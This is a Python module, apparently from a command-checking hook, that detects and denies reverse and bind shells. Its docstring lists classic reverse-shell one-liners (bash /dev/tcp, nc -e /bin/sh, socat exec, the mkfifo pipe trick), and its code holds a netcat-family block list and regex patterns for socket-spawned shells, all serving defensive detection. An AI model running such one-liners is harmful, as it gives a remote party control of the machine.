"""Reverse and bind shells: a shell (or interpreter) whose commands come from a network connection.

``bash -i >& /dev/tcp/host/port 0>&1``, ``nc -e /bin/sh host port``, ``ncat --exec``, ``socat exec:...
tcp:host:port``, ``mkfifo f; cat f | sh -i | nc host port > f``, and one-liners that connect a socket and
start a shell on it (python, perl, ruby, php, node). Each hands this machine to whoever is at the other
end, so each is denied. What only talks to the network (``nc -z host 443``, ``echo > /dev/tcp/h/p`` as a
port check, ``socat TCP-LISTEN:8080 TCP:localhost:3000``) is not a shell and passes.
"""

from __future__ import annotations

import posixpath

from .lazyre import LazyRe
from .shell import UNKNOWN
from .wrappers import SHELLS, interpreter

TYPE_CHECKING = False  # typing is not imported on the hook path
if TYPE_CHECKING:
    from .analyze import Analyzer, Call
    from .shell import Command

RULE = "reverse_shell"
INSTEAD = "Never give a remote machine a shell on this one; ask the user what they need."
NETCATS = frozenset({"nc", "ncat", "netcat", "cryptcat", "pwncat"})  # and nc.traditional, nc.openbsd ...
NET_PROGRAMS = NETCATS | {"socat", "telnet", "openssl"}
_NET_DEV = ("/dev/tcp/", "/dev/udp/")
_SOCKET = LazyRe(r"\bsocket\b|Socket\b|fsockopen|\bnet\s*\.\s*(?:connect|Socket|createConnection)|"
                 r"IO::Socket|/dev/tcp/|\bLuaSocket\b|require\s*\(?\s*['\"]socket['\"]")
_SHELL = LazyRe(r"/bin/(?:ba|z|da|k|c|tc|fi)?sh\b|['\"](?:ba|z|da)?sh\b|\bsh\s+-i\b|cmd\.exe|powershell|"
                r"pty\s*\.\s*spawn|\bdup2\s*\(|IO\s*\.\s*popen\s*\(\s*[$a-z_]|\bpopen\s*\(\s*\$?[a-z_]|"
                r"\b(?:system|exec)\s*\(?\s*\$_")


def _shell_reading_stdin(call: Call) -> bool:
    """A shell or interpreter with no command string and no script: it runs what arrives on stdin."""
    lang = "sh" if call.name in SHELLS else interpreter(call.name)
    if not lang or lang == "awk":
        return False
    args = call.args
    if lang == "sh":
        return not any(x == "-c" or x.startswith("-") and not x.startswith("--") and "c" in x[1:] for x in args) \
            and all(x.startswith(("-", "+")) for x in args)
    return all(x.startswith("-") and x not in ("-c", "-e", "-E", "-r", "-m", "--eval", "-p") for x in args)


def check(a: Analyzer, call: Call) -> None:
    """Every command: remember descriptors opened onto the network (``exec 5<>/dev/tcp/h/p``); deny a
    shell reading commands from the network."""
    cmd = call.cmd
    if cmd.redirs:
        _net_descriptors(a, cmd)
    if call.name in NETCATS or call.name.startswith("nc.") or call.name == "socat":
        _net_program(a, call)
    elif a.net_read and (call.name == UNKNOWN or call.name == "eval" and UNKNOWN in " ".join(call.args)):
        a.add("deny", RULE, f"`{call.show()}` runs commands read from a network connection (a reverse shell)",
              INSTEAD)
    elif (cmd.redirs or cmd.stage) and _shell_reading_stdin(call) and (
            _wired_to_network(a, cmd) or _piped_with_network(a, call)):
        a.add("deny", RULE, f"`{call.show()}` runs a shell whose commands come from a network connection "
              "(a reverse shell)", INSTEAD)


def _net_descriptors(a: Analyzer, cmd: Command) -> None:
    for r in cmd.redirs:
        raw = r.target.raw if r.target is not None else ""
        if r.fd and r.fd not in ("0", "1", "2") and any(d in raw for d in _NET_DEV):
            a.net_fds.add(r.fd)


def _wired_to_network(a: Analyzer, cmd: Command) -> bool:
    """Its stdin or stdout is a network socket, directly or through a descriptor opened onto one."""
    for r in cmd.redirs:
        raw = r.target.raw if r.target is not None else ""
        if any(d in raw for d in _NET_DEV) and r.fd in ("", "0", "1", "2"):
            return True
        if r.op in ("<&", ">&") and (raw in a.net_fds or a.net_dev and raw not in ("0", "1", "2", "-")):
            return True  # a descriptor opened onto the network (zsh's ztcp leaves it in $REPLY)
    return False


def _piped_with_network(a: Analyzer, call: Call) -> bool:
    """It sits in a pipeline with nc/ncat/socat/telnet/openssl (``nc h p | sh | nc h q``, the fifo trick)."""
    from .wrappers import base

    for c in call.script.pipeline_of(call.cmd):
        if c is call.cmd or not c.words:
            continue
        head = [a.expand(w)[0] for w in c.words[:3]]
        names = [base(h) for h in head]
        if names and (_net_name(names[0]) or names[0] in ("sudo", "timeout", "env") and
                      any(_net_name(n) for n in names[1:])):
            return True
    return False


def _net_name(name: str) -> bool:
    return name in NET_PROGRAMS or name.startswith("nc.")


def _net_program(a: Analyzer, call: Call) -> None:
    """nc/ncat with a program to run on the connection; socat joining a program to the network."""
    if call.name == "socat":
        _socat(a, call)
        return
    args = call.args
    for i, x in enumerate(args):
        nxt = args[i + 1] if i + 1 < len(args) else ""
        if x in ("--exec", "--sh-exec", "--lua-exec") or x.startswith(("--exec=", "--sh-exec=", "--lua-exec=")):
            break
        if x.startswith("-") and not x.startswith("--") and _runs_program(x, nxt):
            break
    else:
        return
    a.add("deny", RULE, f"`{call.show()}` runs a program on a network connection (a reverse or bind shell)",
          INSTEAD)


def _runs_program(x: str, nxt: str) -> bool:
    """A short option cluster of nc with ``-e PROG`` (or ``-c CMD`` naming a shell or a command line)."""
    for k in range(1, len(x)):
        if x[k] == "e":
            return True
        if x[k] == "c":
            val = x[k + 1:] or nxt
            return " " in val or posixpath.basename(val) in SHELLS
        if x[k] in "pswiqIOTVXx":  # options that take a value: the rest is it
            return False
    return False


_SOCAT_NET = ("tcp", "udp", "ssl", "openssl", "sctp", "socks", "proxy", "dccp", "vsock", "udplite")


def _socat(a: Analyzer, call: Call) -> None:
    addrs = [x for x in call.args if not x.startswith("-") or x == "-"][:2]
    progs = [x.split(":", 1)[1] for x in addrs if x.lower().startswith(("exec:", "system:"))]
    if not progs:
        return
    if any(x.lower().startswith(_SOCAT_NET) for x in addrs):
        a.add("deny", RULE, f"`{call.show()}` joins a program to a network connection (a reverse or bind shell)",
              INSTEAD)
        return
    for p in progs:
        a.script(p.split(",", 1)[0], call.depth + 1)


def code(a: Analyzer, text: str, via: str) -> None:
    """Interpreter code that opens a socket and starts a shell on it."""
    if _SOCKET.search(text) and _SHELL.search(text):
        a.add("deny", RULE, f"{via} connects a socket and starts a shell on it (a reverse shell)", INSTEAD)
